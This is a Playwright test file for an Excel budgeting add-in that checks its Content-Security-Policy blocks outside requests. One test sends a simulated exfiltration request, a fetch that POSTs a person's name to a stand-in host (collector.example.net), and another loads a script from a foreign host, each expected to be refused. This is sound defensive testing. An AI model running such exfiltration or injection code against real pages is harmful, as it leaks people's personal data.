// No data leaves the page, and the page's Content-Security-Policy is there and enforced, in a real browser:
// the preview driven through a whole plan (set up, pick a person, add a line, save) requests nothing from any
// host but its own; an injected inline script and a request to another host are refused; the pane's page loads
// nothing but its own files and Office.js, and says plainly when Excel lacks a requirement set.
import { readFileSync } from "fs";
import { Page } from "playwright-core";
import { OpenPage, openPage } from "../support/browser";
import { declaredSets } from "../support/manifest";

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { CONTENT_SECURITY_POLICY } = require("../../scripts/csp.js") as {
  CONTENT_SECURITY_POLICY: Record<"pane" | "preview" | "support", string>;
};

jest.setTimeout(600_000); // the first e2e file to run builds the add-in, minutes on a busy machine

const OFFICE_JS = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";

interface Violation {
  directive: string;
  blocked: string;
}

/** Records every securitypolicyviolation from the page's first moment (init scripts run outside the policy). */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: Violation[] = [];
    (window as unknown as { violations: Violation[] }).violations = seen;
    document.addEventListener("securitypolicyviolation", (event) =>
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
}
const violations = (page: Page) => page.evaluate(() => (window as unknown as { violations: Violation[] }).violations);
const policyMeta = (page: Page) =>
  page.evaluate(() => document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')?.content);

describe("the browser preview", () => {
  let opened: OpenPage;
  let page: Page;

  beforeAll(async () => {
    opened = await openPage("preview.html");
    page = opened.page;
    await recordViolations(page);
    await page.reload();
  });

  afterAll(async () => {
    await opened?.close();
  });

  const pane = () => page.getByRole("complementary", { name: "Task pane" });

  it("works through a whole plan under its policy, requesting nothing from any other host", async () => {
    await expect(policyMeta(page)).resolves.toBe(CONTENT_SECURITY_POLICY.preview);

    await pane().getByRole("button", { name: "Set up workbook" }).click();
    await pane()
      .getByText(/^Added Scoring, PricePoints, People/)
      .waitFor();
    await pane().getByRole("combobox", { name: "Person" }).click();
    await page.getByRole("option", { name: /^P001 Margaret Ellis/ }).click();
    await pane().getByRole("combobox", { name: "Service from the catalogue" }).click();
    await page.getByRole("option", { name: /^Day centre ·/ }).click();
    await pane().getByRole("button", { name: "Add", exact: true }).click();
    await pane()
      .getByRole("textbox", { name: /^Your name/ })
      .fill("Sam Reid");
    await pane().getByRole("button", { name: "Save plan" }).click();
    await pane().getByText("Saved plan PLAN-0001 to the Plans and PlanLines tables.").waitFor();

    // Fluent UI's run-time styles, the preview's grid and charts: all within the policy.
    await expect(violations(page)).resolves.toEqual([]);
    expect(opened.errors).toEqual([]);
    expect(opened.requests.length).toBeGreaterThan(2);
    expect(opened.requests.filter((url) => !url.startsWith(`${opened.origin}/`))).toEqual([]);
  });

  it("refuses an injected inline script and a request to another host, before anything is sent", async () => {
    const ran = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.injectedScriptRan = true;";
      document.head.append(script);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return (window as unknown as { injectedScriptRan?: boolean }).injectedScriptRan ?? false;
    });
    expect(ran).toBe(false);
    const sent = await page.evaluate(() =>
      window.fetch("https://collector.example.net/people", { method: "POST", body: "P001 Margaret Ellis" }).then(
        () => "sent",
        () => "refused",
      ),
    );
    expect(sent).toBe("refused");
    await expect(violations(page)).resolves.toEqual([
      { directive: "script-src-elem", blocked: "inline" },
      { directive: "connect-src", blocked: "https://collector.example.net/people" },
    ]);
    expect(opened.requests.filter((url) => url.includes("collector.example.net"))).toEqual([]);
  });
});

describe("the pane's page", () => {
  let opened: OpenPage;
  let page: Page;

  beforeAll(async () => {
    opened = await openPage("support.html");
    page = opened.page;
    await recordViolations(page);
  });

  afterAll(async () => {
    await opened?.close();
  });

  /** Loads taskpane.html with a stand-in for Office.js: Excel, supporting only the sets `supported` allows. */
  async function openPane(supported: (name: string) => boolean, host = "Excel", alsoDoes = ""): Promise<void> {
    const sets = JSON.stringify(
      declaredSets(readFileSync("manifest.xml", "utf8")).filter((set) => supported(set.name)),
    );
    await page.unroute(OFFICE_JS);
    await page.route(OFFICE_JS, (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: `
          const supported = ${sets};
          window.CustomFunctions = { associate() {}, Error: class {}, ErrorCode: {} };
          window.Office = {
            HostType: { Excel: "Excel" },
            context: { requirements: { isSetSupported: (name) => supported.some((set) => set.name === name) } },
            onReady(callback) {
              const info = { host: ${JSON.stringify(host)}, platform: "OfficeOnline" };
              callback(info);
              return Promise.resolve(info);
            },
          };
          ${alsoDoes}`,
      }),
    );
    await page.goto(`${opened.origin}/taskpane.html`);
  }

  it("says plainly which requirement set this Excel lacks, and loads only its own files and Office.js", async () => {
    const excelApi = declaredSets(readFileSync("manifest.xml", "utf8")).find((set) => set.name === "ExcelApi")!;
    await openPane((name) => name !== "ExcelApi");
    await expect(policyMeta(page)).resolves.toBe(CONTENT_SECURITY_POLICY.pane);
    await expect(page.getByRole("alert").textContent()).resolves.toBe(
      `This version of Excel cannot run Personal Budgets: it needs ExcelApi ${excelApi.version}. ` +
        "Update Office (File › Account › Update Options), or use Excel on the web.",
    );
    await expect(violations(page)).resolves.toEqual([]);
    expect(opened.errors).toEqual([]);
    expect(opened.requests.filter((url) => !url.startsWith(`${opened.origin}/`))).toEqual([OFFICE_JS]);
  });

  it("lets Office.js load MicrosoftAjax.js (ajax.aspnetcdn.com), add inline styles; other hosts refused", async () => {
    // What Office.js is reported to do (office-js#1005, #1687): load MicrosoftAjax.js from Microsoft's Ajax CDN, with
    // crossOrigin "anonymous" (#686), and insert styles of its own.
    const AJAX = "https://ajax.aspnetcdn.com/ajax/3.5/MicrosoftAjax.js";
    await page.route(AJAX, (route) =>
      route.fulfill({
        contentType: "text/javascript",
        headers: { "Access-Control-Allow-Origin": "*" },
        body: "window.microsoftAjaxLoaded = true;",
      }),
    );
    await page.route("https://scripts.example.net/**", (route) =>
      route.fulfill({ contentType: "text/javascript", body: "window.otherHostRan = true;" }),
    );
    // (In a host other than Excel, so the pane itself asks nothing of the stand-in.)
    await openPane(
      () => true,
      "Word",
      `const ajax = document.createElement("script");
      ajax.src = ${JSON.stringify(AJAX)};
      ajax.crossOrigin = "anonymous";
      document.head.append(ajax);
      const style = document.createElement("style");
      style.textContent = ".office-inserted { color: rgb(1, 2, 3); }";
      document.head.append(style);`,
    );
    await page.waitForFunction(() => (window as unknown as { microsoftAjaxLoaded?: boolean }).microsoftAjaxLoaded);
    const styled = await page.evaluate(() => {
      const element = document.createElement("span");
      element.className = "office-inserted";
      document.body.append(element);
      return getComputedStyle(element).color;
    });
    expect(styled).toBe("rgb(1, 2, 3)");
    await expect(violations(page)).resolves.toEqual([]);
    // A script from any other host is still refused.
    const ran = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.src = "https://scripts.example.net/x.js";
      document.head.append(script);
      await new Promise((resolve) => setTimeout(resolve, 200));
      return (window as unknown as { otherHostRan?: boolean }).otherHostRan ?? false;
    });
    expect(ran).toBe(false);
    await expect(violations(page)).resolves.toEqual([
      { directive: "script-src-elem", blocked: "https://scripts.example.net/x.js" },
    ]);
    // What the README says to look for in the developer console, naming the address blocked and the directive
    // (Chromium 156's wording; earlier versions say "Refused to load the script '…' because it violates").
    const logged = opened.errors.splice(0);
    expect(logged).toEqual([
      expect.stringMatching(
        /^(Loading|Refused to load) the script 'https:\/\/scripts\.example\.net\/x\.js' (because it )?violates the following Content Security Policy directive: "script-src 'self' https:\/\/appsforoffice\.microsoft\.com https:\/\/ajax\.aspnetcdn\.com"/,
      ),
    ]);
  });

  it("outside Excel, points to the browser preview", async () => {
    await openPane(() => true, "Word");
    await page.getByText("This is the Personal Budgets task pane").waitFor();
    await expect(violations(page)).resolves.toEqual([]);
    expect(opened.errors).toEqual([]);
  });
});
